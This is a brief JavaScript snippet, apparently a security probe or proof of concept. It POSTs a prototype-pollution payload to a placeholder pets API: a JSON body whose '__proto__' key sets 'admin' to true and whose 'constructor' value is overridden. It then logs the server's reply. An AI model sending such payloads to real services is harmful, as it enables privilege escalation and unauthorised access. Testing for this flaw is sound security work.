const response = await fetch("https://api.example.com/v1/pets", {
  method: "POST",
  headers: { "Content-Type": "application/json" },
  body: "{\"__proto__\":{\"admin\":true},\"constructor\":\"x\"}"
});

console.log(await response.text());
